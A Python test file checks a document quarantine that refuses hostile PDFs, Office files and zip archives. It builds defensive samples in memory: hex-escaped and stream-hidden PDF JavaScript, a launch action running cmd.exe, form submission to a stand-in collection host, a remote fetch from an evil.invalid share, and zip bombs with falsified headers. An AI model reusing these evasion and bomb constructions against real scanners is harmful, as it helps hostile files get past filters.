"""Issue 16 (item 6): a quarantine that holds against a hostile producer — active PDF content
however it is encoded, archives whose real expansion or entry count is too large (measured, not
read from headers), Office macros, and files that cannot be read (refused, never released).

Each hostile file is built here, in memory."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

import olefile
import pytest
from pypdf import PdfWriter

from contracts.catalogue.contacts import ContactsReasonCode
from services.contacts import domain, filetypes, quarantine
from tests.unit.contacts import contacts_samples as samples

NOT_ALLOWED = ContactsReasonCode.ATTACHMENT_TYPE_NOT_ALLOWED
TOO_LARGE = ContactsReasonCode.ATTACHMENT_TOO_LARGE
UNREADABLE = ContactsReasonCode.ATTACHMENT_UNREADABLE


def refusal(content: bytes, media_type: str) -> ContactsReasonCode | None:
    """The reason the quarantine job would refuse the file for, or None when it is released."""
    verdict = domain.quarantine_verdict(filetypes.inspect(content, media_type))
    return verdict[0] if verdict else None


# --- PDF builders ------------------------------------------------------------------------------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] %s >>"


def pdf(*objects: bytes) -> bytes:
    """A PDF whose objects 1, 2, 3, … are ``objects``, with a classic cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def one_page_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
    """Catalog (1), pages (2), one page (3), then ``more`` objects (4, 5, …)."""
    return pdf(CATALOG % catalog_extra, PAGES, PAGE % page_extra, *more)


def pdf_in_an_object_stream(*objects: bytes) -> bytes:
    """A PDF whose objects 1, 2, 3, … all sit in one Flate-compressed object stream, found through
    a cross-reference stream (PDF 1.5): only a parser that opens the stream can see them."""
    index = body = b""
    for number, obj in enumerate(objects, start=1):
        index += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    data = zlib.compress(index + body)
    stream_number, xref_number = len(objects) + 1, len(objects) + 2
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        stream_number,
        len(objects),
        len(index),
        len(data),
    )
    out += data + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = b"\x00" + bytes(4) + b"\xff\xff"  # object 0: the head of the free list
    rows += b"".join(
        b"\x02" + stream_number.to_bytes(4, "big") + i.to_bytes(2, "big") for i in range(len(objects))
    )
    rows += b"\x01" + stream_offset.to_bytes(4, "big") + b"\x00\x00"
    rows += b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00"
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def written_pdf(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- PDF ---------------------------------------------------------------------------------------


def test_a_pdf_whose_javascript_name_is_hex_escaped_is_refused() -> None:
    content = one_page_pdf(b"/OpenAction 4 0 R", b"", b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")
    assert b"/JavaScript" not in content and b"/JS" not in content
    assert refusal(content, filetypes.PDF) is NOT_ALLOWED
    # Both lines see through the escape: pypdf decodes names; the raw check undoes #xx itself.
    assert "/JavaScript" in quarantine.scan_pdf_objects(content)
    assert "/JavaScript" in quarantine.scan_pdf_bytes(content)


def test_a_javascript_action_inside_a_compressed_object_stream_is_refused() -> None:
    content = pdf_in_an_object_stream(
        CATALOG % b"/Names << /JavaScript 4 0 R >>",
        PAGES,
        PAGE % b"",
        b"<< /Names [(init) 5 0 R] >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    )
    assert b"JavaScript" not in content and b"/JS" not in content  # only compressed bytes hold it
    assert quarantine.scan_pdf_bytes(content) == set()
    assert quarantine.scan_pdf_objects(content) == {"/JavaScript"}
    assert refusal(content, filetypes.PDF) is NOT_ALLOWED


def test_a_pdf_that_runs_javascript_when_it_is_opened_is_refused() -> None:
    content = one_page_pdf(b"/OpenAction << /S /JavaScript /JS (this.print\\(\\)) >>")
    assert refusal(content, filetypes.PDF) is NOT_ALLOWED


@pytest.mark.parametrize(
    ("action", "found"),
    [
        (b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>", "/Launch"),
        (b"<< /S /SubmitForm /F << /FS /URL /F (https://example.invalid/collect) >> >>", "/SubmitForm"),
        (b"<< /S /ImportData /F (data.fdf) >>", "/ImportData"),
        (b"<< /S /GoToR /F (\\\\evil.invalid\\share\\a.pdf) /D [0 /Fit] >>", "/GoToR"),
        (b"<< /S /GoToE /F (other.pdf) /D [0 /Fit] >>", "/GoToE"),
        (b"<< /S 5 0 R /F (cmd.exe) >>", "/Launch"),  # the type by reference, to an escaped name
    ],
)
def test_a_pdf_link_that_launches_a_program_or_sends_or_fetches_a_file_is_refused(
    action: bytes, found: str
) -> None:
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 4 0 R >>]"
    content = one_page_pdf(b"", link, action, b"/L#61unch")
    assert found in quarantine.scan_pdf_objects(content)
    assert refusal(content, filetypes.PDF) is NOT_ALLOWED


def test_a_javascript_additional_action_on_a_page_is_refused() -> None:
    script = b"app.launchURL('https://example.invalid')"
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(script), script)
    content = one_page_pdf(b"", b"/AA << /O << /S /JavaScript /JS 4 0 R >> >>", stream)
    assert "/JavaScript" in quarantine.scan_pdf_objects(content)
    assert refusal(content, filetypes.PDF) is NOT_ALLOWED


def test_a_pdf_with_an_embedded_file_is_refused() -> None:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    content = written_pdf(writer)
    assert "/EmbeddedFile" in quarantine.scan_pdf_objects(content)
    assert refusal(content, filetypes.PDF) is NOT_ALLOWED


@pytest.mark.parametrize(
    ("catalog", "page"),
    [
        (b"/AcroForm << /Fields [] /XFA 4 0 R >>", b""),  # an XFA form
        (b"", b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),  # Flash
        (b"", b"/Annots [<< /Type /Annot /Subtype /FileAttachment /FS (a.exe) /Rect [0 0 9 9] >>]"),
    ],
)
def test_a_pdf_with_an_xfa_form_rich_media_or_a_file_attachment_is_refused(
    catalog: bytes, page: bytes
) -> None:
    content = one_page_pdf(catalog, page, b"<< /Length 0 >>\nstream\n\nendstream")
    assert refusal(content, filetypes.PDF) is NOT_ALLOWED


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n",
        b"%PDF-1.4\n" + bytes(range(256)) * 8,
        one_page_pdf()[:60],  # cut off inside its catalog, before any trailer
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",  # no cross-reference and no trailer
    ],
)
def test_a_pdf_pypdf_cannot_read_is_refused_as_unreadable(content: bytes) -> None:
    findings = filetypes.inspect(content, filetypes.PDF)
    assert findings.unreadable
    assert refusal(content, filetypes.PDF) is UNREADABLE


def test_a_pdf_that_needs_a_password_to_open_is_refused_as_unreadable() -> None:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.encrypt(user_password="secret", algorithm="RC4-128")
    assert refusal(written_pdf(writer), filetypes.PDF) is UNREADABLE


def test_a_pdf_with_more_objects_than_the_walk_allows_is_refused_as_unreadable(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(quarantine, "MAX_PDF_OBJECTS", 2)
    assert refusal(one_page_pdf(), filetypes.PDF) is UNREADABLE


def test_pdf_objects_that_refer_to_each_other_in_a_cycle_are_walked_once_and_released() -> None:
    content = one_page_pdf(b"/Cycle 4 0 R", b"", b"<< /Next 5 0 R >>", b"<< /Next 4 0 R /Back 1 0 R >>")
    assert refusal(content, filetypes.PDF) is None


def test_a_clean_pdf_is_released() -> None:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.add_metadata({"/Title": "Payslip March"})
    assert refusal(written_pdf(writer), filetypes.PDF) is None


def test_a_pdf_that_opens_at_its_first_page_and_links_to_a_web_page_is_released() -> None:
    uri = b"<< /S /URI /URI (https://gov.example) >>"
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s >>]" % uri
    content = one_page_pdf(b"/OpenAction [3 0 R /Fit]", link)
    assert refusal(content, filetypes.PDF) is None


def test_a_pdf_without_a_cross_reference_table_is_read_as_viewers_read_it() -> None:
    # Viewers rebuild a missing cross-reference from the objects; so does pypdf, and so the check.
    assert refusal(samples.pdf(), filetypes.PDF) is None
    assert (
        refusal(samples.pdf(b" /OpenAction << /S /J#61vaScript /J#53 (x) >>"), filetypes.PDF) is NOT_ALLOWED
    )


# --- Zip-based documents -----------------------------------------------------------------------

DOCX_PARTS = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}


def zipped(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def falsify(content: bytes, name: bytes, crc: int, compressed: int, size: int) -> bytes:
    """``content`` with the CRC and sizes of entry ``name`` replaced in both its local header and
    the central directory."""
    patched = bytearray(content)
    local = patched.find(b"PK\x03\x04")
    while not patched[local + 30 :].startswith(name):
        local = patched.find(b"PK\x03\x04", local + 4)
    struct.pack_into("<III", patched, local + 14, crc, compressed, size)
    central = patched.find(b"PK\x01\x02")
    while not patched[central + 46 :].startswith(name):
        central = patched.find(b"PK\x01\x02", central + 4)
    struct.pack_into("<III", patched, central + 16, crc, compressed, size)
    return bytes(patched)


def test_a_zip_bomb_whose_header_sizes_are_falsified_is_measured_and_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in DOCX_PARTS.items():
            archive.writestr(name, data)
        with archive.open("word/media/image1.png", "w") as entry:
            for _ in range(64):
                entry.write(bytes(1024 * 1024))  # 64 MiB of zeros: about 64 KiB compressed
    # The headers now say the entry is 1,000 bytes (CRC included), so zipfile's own reader, which
    # trusts them, stops there without complaint; the deflate stream really holds 64 MiB.
    content = falsify(buffer.getvalue(), b"word/media/image1.png", zlib.crc32(bytes(1000)), 1000, 1000)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.read("word/media/image1.png") == bytes(1000)
    assert filetypes.sniff(content) == filetypes.DOCX
    findings = filetypes.inspect(content, filetypes.DOCX)
    assert findings.archive_too_expanded
    assert refusal(content, filetypes.DOCX) is TOO_LARGE


@pytest.mark.parametrize(
    ("crc_xor", "packed_delta", "size_delta"),
    [
        (0, 0, 1),  # a size that is not the real one
        (1, 0, 0),  # a bad CRC
        (0, -1, 0),  # compressed data cut short
    ],
)
def test_a_document_whose_zip_headers_disagree_with_its_content_is_refused_as_unreadable(
    crc_xor: int, packed_delta: int, size_delta: int
) -> None:
    document = b"<w:document>" + b"hello " * 50 + b"</w:document>"
    content = zipped(DOCX_PARTS | {"word/document.xml": document})
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        info = archive.getinfo("word/document.xml")
    crc, packed, size = info.CRC ^ crc_xor, info.compress_size + packed_delta, info.file_size + size_delta
    content = falsify(content, b"word/document.xml", crc, packed, size)
    assert filetypes.inspect(content, filetypes.DOCX).unreadable
    assert refusal(content, filetypes.DOCX) is UNREADABLE


def repeat_central_entry(content: bytes, name: bytes, times: int) -> bytes:
    """``content`` with the central directory's record of ``name`` repeated: more entries, all
    sharing one entry's compressed data (the construction of a non-recursive zip bomb)."""
    end = content.rfind(b"PK\x05\x06")
    count, size, offset = struct.unpack_from("<HII", content, end + 10)
    directory = content[offset : offset + size]
    record = directory.find(b"PK\x01\x02")
    while not directory[record + 46 :].startswith(name):
        record = directory.find(b"PK\x01\x02", record + 4)
    lengths = sum(struct.unpack_from("<HHH", directory, record + 28))
    directory += directory[record : record + 46 + lengths] * times
    trailer = bytearray(content[end:])
    struct.pack_into("<HHII", trailer, 8, count + times, count + times, len(directory), offset)
    return content[:offset] + directory + bytes(trailer)


def test_a_zip_whose_entries_share_their_compressed_data_is_refused() -> None:
    picture = bytes(random.Random(16).randrange(256) for _ in range(64 * 1024))  # incompressible
    content = repeat_central_entry(zipped(DOCX_PARTS | {"word/media/a.png": picture}), b"word/media/a.png", 3)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert len(archive.infolist()) == 6  # three more entries, no more bytes of data
    assert filetypes.inspect(content, filetypes.DOCX).unreadable
    assert refusal(content, filetypes.DOCX) is UNREADABLE


def test_a_document_compressed_with_a_method_office_never_uses_is_refused_as_unreadable() -> None:
    content = zipped(DOCX_PARTS, zipfile.ZIP_BZIP2)
    assert filetypes.sniff(content) == filetypes.DOCX
    assert refusal(content, filetypes.DOCX) is UNREADABLE


def test_a_zip_with_too_many_entries_is_refused() -> None:
    filler = {f"word/media/{i}.txt": b"" for i in range(quarantine.MAX_ARCHIVE_ENTRIES - 1)}
    content = zipped(DOCX_PARTS | filler)
    assert filetypes.inspect(content, filetypes.DOCX).archive_too_many_entries
    assert refusal(content, filetypes.DOCX) is TOO_LARGE


def test_a_clean_docx_is_released() -> None:
    assert refusal(samples.docx(), filetypes.DOCX) is None
    assert refusal(samples.xlsx(), filetypes.XLSX) is None
    # A nested archive (an embedded workbook) counts as one entry; it is not opened.
    embedded = DOCX_PARTS | {"word/embeddings/Book1.xlsx": samples.xlsx()}
    assert refusal(zipped(embedded), filetypes.DOCX) is None
    assert refusal(zipped(DOCX_PARTS, zipfile.ZIP_STORED), filetypes.DOCX) is None


@pytest.mark.parametrize(
    "extra",
    [
        {"word/vbaProject.bin": b"\x00" * 16},
        {"WORD/VBAPROJECT.BIN": b"\x00" * 16},  # any case
        {"customXml/hidden/vbaproject.bin": b"\x00" * 16},  # any folder
        {"word/activeX/activeX1.bin": b"\x00" * 16},  # an ActiveX control
        {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"},  # an Excel 4.0 macro sheet
        {
            "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" ContentType='
            b'"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
        },
    ],
)
def test_a_docx_carrying_macros_is_refused(extra: dict[str, bytes]) -> None:
    content = zipped(DOCX_PARTS | extra)
    assert filetypes.inspect(content, filetypes.DOCX).macros
    assert refusal(content, filetypes.DOCX) is NOT_ALLOWED


# --- Legacy Office (OLE compound files) --------------------------------------------------------

FREE, END, FAT_SECTOR, NO_ENTRY = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
STORAGE, STREAM, ROOT = 1, 2, 5


def compound_file(*entries: tuple[str, int, int, int, int]) -> bytes:
    """A version 3 compound file (512-byte sectors: the FAT in sector 0, the directory in sector 1)
    whose directory holds ``entries``: (name, type, left sibling, right sibling, child)."""
    assert len(entries) <= 4, "one directory sector holds four entries"
    header = bytearray(512)
    header[:8] = samples.OLE_MAGIC
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<II", header, 0x2C, 1, 1)  # one FAT sector; the directory starts at sector 1
    struct.pack_into("<I", header, 0x38, 4096)
    struct.pack_into("<IIII", header, 0x3C, END, 0, END, 0)  # no mini FAT, no extra DIFAT
    struct.pack_into("<109I", header, 0x4C, 0, *([FREE] * 108))
    fat = struct.pack("<128I", FAT_SECTOR, END, *([FREE] * 126))
    directory = bytearray(512)
    for index, (name, kind, left, right, child) in enumerate(entries):
        offset = index * 128
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        directory[offset : offset + len(encoded)] = encoded
        struct.pack_into("<HBBIII", directory, offset + 0x40, len(encoded), kind, 1, left, right, child)
        struct.pack_into("<I", directory, offset + 0x74, END)  # empty: no data sectors
    return bytes(header) + fat + bytes(directory)


def word_document(*storages: str) -> bytes:
    """A Word 97 file: the root holds a ``WordDocument`` stream and then ``storages`` (each the
    right sibling of the one before), as Word links its directory tree."""
    chain = [("WordDocument", STREAM), *((name, STORAGE) for name in storages)]
    entries = [("Root Entry", ROOT, NO_ENTRY, NO_ENTRY, 1)]
    for position, (name, kind) in enumerate(chain, start=1):
        right = position + 1 if position < len(chain) else NO_ENTRY
        entries.append((name, kind, NO_ENTRY, right, NO_ENTRY))
    return compound_file(*entries)


@pytest.mark.parametrize("storage", ["Macros", "_VBA_PROJECT_CUR", "VBA"])
def test_an_ole_doc_with_a_macros_storage_is_refused(storage: str) -> None:
    content = word_document(storage)
    with olefile.OleFileIO(io.BytesIO(content)) as compound:  # a real compound file, read by olefile
        assert [storage] in compound.listdir(streams=False, storages=True)
    assert filetypes.sniff(content) == filetypes.DOC
    assert filetypes.inspect(content, filetypes.DOC).macros
    assert refusal(content, filetypes.DOC) is NOT_ALLOWED


def test_a_macros_storage_left_out_of_the_directory_tree_is_still_found() -> None:
    content = samples.doc(macros=True)  # its entries are not linked into the root's tree
    with olefile.OleFileIO(io.BytesIO(content)) as compound:
        assert compound.listdir(streams=True, storages=True) == []
    assert refusal(content, filetypes.DOC) is NOT_ALLOWED


def test_a_clean_doc_is_released() -> None:
    content = word_document("ObjectPool")
    assert filetypes.sniff(content) == filetypes.DOC
    assert refusal(content, filetypes.DOC) is None
    assert refusal(samples.doc(), filetypes.DOC) is None
    assert refusal(samples.xls(), filetypes.XLS) is None


def test_a_damaged_compound_file_is_refused_as_unreadable() -> None:
    assert refusal(word_document()[:1100], filetypes.DOC) is UNREADABLE


def test_an_unreadable_file_is_refused_with_a_reason_never_released() -> None:
    verdict = domain.quarantine_verdict(quarantine.ContentFindings(unreadable=True))
    assert verdict is not None
    assert verdict[0] is UNREADABLE and "could not be read" in verdict[1]
